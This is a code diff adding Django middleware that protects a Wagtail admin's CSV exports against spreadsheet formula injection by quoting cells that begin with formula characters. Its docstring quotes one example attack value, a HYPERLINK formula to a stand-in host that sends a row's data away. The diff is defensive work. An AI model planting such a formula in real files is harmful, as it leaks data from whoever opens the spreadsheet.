@@ -1,10 +1,13 @@
 """Small security measures that apply to every response or every staff request."""
 
+import codecs
+import csv
 import logging
+import re
 
 from django.conf import settings
 from django.core.exceptions import RequestDataTooBig, TooManyFieldsSent, TooManyFilesSent
-from django.http import HttpResponse
+from django.http import FileResponse, HttpResponse
 from django.template import loader
 
 logger = logging.getLogger(__name__)
@@ -24,6 +27,74 @@ class PermissionsPolicyMiddleware:
         response = self.get_response(request)
         response.headers.setdefault("Permissions-Policy", PERMISSIONS_POLICY)
         return response
+
+
+class SpreadsheetFormulaMiddleware:
+    """No cell of a CSV the admin writes starts a formula when the file is opened in a spreadsheet.
+
+    Wagtail writes every CSV of the admin (the requests export, its own reports: site
+    history, aging and locked pages, workflows) with the values as they are, and some are
+    typed by staff: a locality named `=HYPERLINK("http://evil.example/?"&A2,"Kliknij")`
+    becomes a link that sends the row away. Excel and LibreOffice read a cell starting
+    with = + - @, a tab or a carriage return as a formula; such a cell gets a single quote
+    in front (OWASP, "CSV Injection"), which spreadsheets show as text. So does a value's
+    part after a comma, semicolon or tab, where a spreadsheet set to split on that
+    character (a Polish Excel splits on ";") would start a new cell. Done here, on the way
+    out, so that every CSV Wagtail writes now or later is covered without copying its
+    views. XLSX needs nothing: Wagtail stores each value there as text.
+    """
+
+    def __init__(self, get_response):
+        self.get_response = get_response
+
+    def __call__(self, request):
+        response = self.get_response(request)
+        if (
+            request.path.startswith(ADMIN_PREFIX)
+            and response.get("Content-Type", "").startswith("text/csv")
+            and not isinstance(response, FileResponse)
+        ):
+            if response.streaming:
+                response.streaming_content = _neutralised_csv(response.streaming_content, response.charset)
+            else:
+                response.content = b"".join(_neutralised_csv([response.content], response.charset))
+                if response.has_header("Content-Length"):
+                    response["Content-Length"] = str(len(response.content))
+        return response
+
+
+FORMULA_CELL_START = re.compile(r"(^|[,;\t])(?=[=+\-@\t\r])")
+
+
+def neutralise_cell(value):
+    return FORMULA_CELL_START.sub(r"\1'", value)
+
+
+class _Echo:
+    def write(self, value):
+        return value
+
+
+def _csv_lines(chunks, charset):
+    """The text of the chunks, line by line (a multi-byte character may be cut between chunks)."""
+    decoder = codecs.getincrementaldecoder(charset)()
+    pending = ""
+    for chunk in chunks:
+        pending += decoder.decode(chunk)
+        *complete, pending = pending.split("\n")
+        for line in complete:
+            yield line + "\n"
+    pending += decoder.decode(b"", final=True)
+    if pending:
+        yield pending
+
+
+def _neutralised_csv(chunks, charset):
+    # Read back and written again in the dialect it was written in (the csv module's
+    # default, as Wagtail uses it), so quoted line breaks and commas stay inside their cells.
+    writer = csv.writer(_Echo())
+    for row in csv.reader(_csv_lines(chunks, charset)):
+        yield writer.writerow([neutralise_cell(cell) for cell in row]).encode(charset)
 
 
 class StaffIdleTimeoutMiddleware:
